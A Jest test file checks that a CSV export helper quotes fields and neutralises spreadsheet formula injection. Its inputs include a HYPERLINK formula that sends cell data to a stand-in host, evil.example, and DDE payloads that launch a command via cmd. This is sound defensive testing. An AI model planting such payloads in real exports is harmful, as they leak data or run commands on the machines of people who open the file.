import { csvField } from '../../src/cli/admin';

/** `cdr export` cells (csvField): RFC 4180 quoting, and nothing a spreadsheet would run as a formula. */
describe('csvField', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ['=1+2', "'=1+2"],
    ['+cmd|\' /C calc\'!A0', "'+cmd|' /C calc'!A0"],
    ['-2+3+cmd|\' /C calc\'!A0', "'-2+3+cmd|' /C calc'!A0"],
    ['@SUM(1,2)', `"'@SUM(1,2)"`],
    ['\t=1+2', "'\t=1+2"],
    ['\r=1+2', `"'\r=1+2"`],
    ['order 7, "rush"', '"order 7, ""rush"""'],
    ['a=b', 'a=b'],
    ['plain order', 'plain order'],
    ['', ''],
  ])('neutralises and quotes %p', (cell, csv) => {
    expect(csvField(cell)).toBe(csv);
  });

  it('leaves phone numbers, masked numbers, numbers and empty cells as they are', () => {
    expect(csvField('+442079460958')).toBe('+442079460958');
    expect(csvField('+442*****0958')).toBe('+442*****0958');
    expect(csvField('13812345678')).toBe('13812345678');
    expect(csvField('700100000000001')).toBe('700100000000001');
    expect(csvField(-5)).toBe('-5');
    expect(csvField(30)).toBe('30');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    // '+' followed by anything but digits is text a spreadsheet would evaluate.
    expect(csvField('+44 20 7946 0958')).toBe("'+44 20 7946 0958");
  });
});
